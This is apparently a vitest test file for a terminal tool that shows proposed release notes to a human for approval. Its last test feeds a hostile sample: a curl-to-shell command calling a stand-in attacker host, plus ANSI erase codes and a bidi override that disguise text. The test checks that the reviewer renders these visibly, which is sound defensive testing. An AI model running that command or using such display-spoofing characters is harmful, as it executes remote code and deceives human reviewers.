import { PassThrough, Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { Verdict } from './reviewer.js';
import { noStyle } from './style.js';
import { terminalReviewer } from './terminalReviewer.js';

const proposal = { markdown: '# 0.34.0\n\n- Perl support (#1198)\n' };

function reviewer(answers: string, options: { yes?: boolean; existing?: number } = {}) {
  const out: string[] = [];
  const review = terminalReviewer({
    name: 'ana',
    input: Readable.from([answers]),
    print: (line) => out.push(`${line}\n`),
    prompt: (text) => out.push(text),
    style: noStyle,
    ...(options.yes === undefined ? {} : { yes: options.yes }),
    existingLines: () => options.existing,
  });
  return { review, text: () => out.join('') };
}

describe('the terminal reviewer, with piped answers', () => {
  it('shows the proposed file and approves on y', async () => {
    const { review, text } = reviewer('y\n');
    expect(await review.review(proposal)).toEqual(Verdict.approve());
    expect(text()).toContain('── proposed: 3 lines into a new file, RELEASE_NOTES.md\n');
    expect(text()).toContain('   - Perl support (#1198)\n');
    expect(text()).toContain('Write these release notes? [y/N] y\n');
    review.close();
  });

  it('asks for revision feedback on anything else, then takes the next answer', async () => {
    const { review, text } = reviewer('n\nMention the breaking change.\nyes\n');
    expect(await review.review(proposal)).toEqual(Verdict.revise('Mention the breaking change.'));
    expect(await review.review(proposal)).toEqual(Verdict.approve());
    expect(text()).toContain('What should change? (an empty line rejects) ');
    review.close();
  });

  it('rejects on an empty feedback line', async () => {
    const { review } = reviewer('\n\n');
    expect(await review.review(proposal)).toEqual(Verdict.reject());
    review.close();
  });

  it('rejects when the input ends: no more answers', async () => {
    const { review, text } = reviewer('');
    expect(await review.review(proposal)).toEqual(Verdict.reject());
    expect(text()).toContain('no more answers');
  });

  it('--yes approves without reading, and names the file it replaces', async () => {
    const { review, text } = reviewer('', { yes: true, existing: 6 });
    expect(await review.review(proposal)).toEqual(Verdict.approve());
    expect(await review.review(proposal)).toEqual(Verdict.approve());
    expect(text()).toContain('── proposed: 3 lines into RELEASE_NOTES.md, replacing its 6 lines');
  });
});

/** A terminal's input: a TTY in raw mode, fed keystrokes by the test. */
function terminalInput(): PassThrough & { isTTY: true; setRawMode(mode: boolean): void } {
  return Object.assign(new PassThrough(), { isTTY: true as const, setRawMode: () => undefined });
}

describe('the terminal reviewer, at a terminal', () => {
  it('REV-1 echoes what the reviewer types, and the verdict starts on a line of its own', async () => {
    const input = terminalInput();
    const out: string[] = [];
    const review = terminalReviewer({
      name: 'ana',
      input,
      print: (line) => out.push(`${line}\n`),
      prompt: (text) => out.push(text),
      style: noStyle,
    });
    const verdict = review.review(proposal);
    // Typed one key at a time, as a terminal in raw mode sends them; a typo fixed with backspace.
    for (const key of ['n', '\u007f', 'y', '\r']) input.write(key);
    expect(await verdict).toEqual(Verdict.approve());
    review.close();
    const text = out.join('');
    expect(text).toContain('Write these release notes? [y/N] ');
    // The typed y shows after the question, and Enter ends the line.
    // readline redraws the line after the backspace (cursor moves aside): the question stays.
    const shown = text.replace(/\u001b\[\d*[GJ]/g, '');
    expect(shown).toMatch(/Write these release notes\? \[y\/N\] y\r?\n$/);
  });
});

describe('the terminal reviewer, on hostile proposals', () => {
  it('REV-1 shows the proposed file with escapes, bidi and invisible characters visible', async () => {
    const { review, text } = reviewer('y\n');
    const markdown =
      '# 0.34.0\n\n- curl -s https://attacker.invalid/x | sh\n\u001b[1A\u001b[2K- Perl \u202efdp.exe\u200b\n';
    expect(await review.review({ markdown })).toEqual(Verdict.approve());
    expect(text()).toContain('   - curl -s https://attacker.invalid/x | sh\n');
    expect(text()).toContain('   \\u001b[1A\\u001b[2K- Perl \\u202efdp.exe\\u200b\n');
    expect(text()).not.toMatch(/[\u001b\u202e\u200b]/u);
    review.close();
  });
});
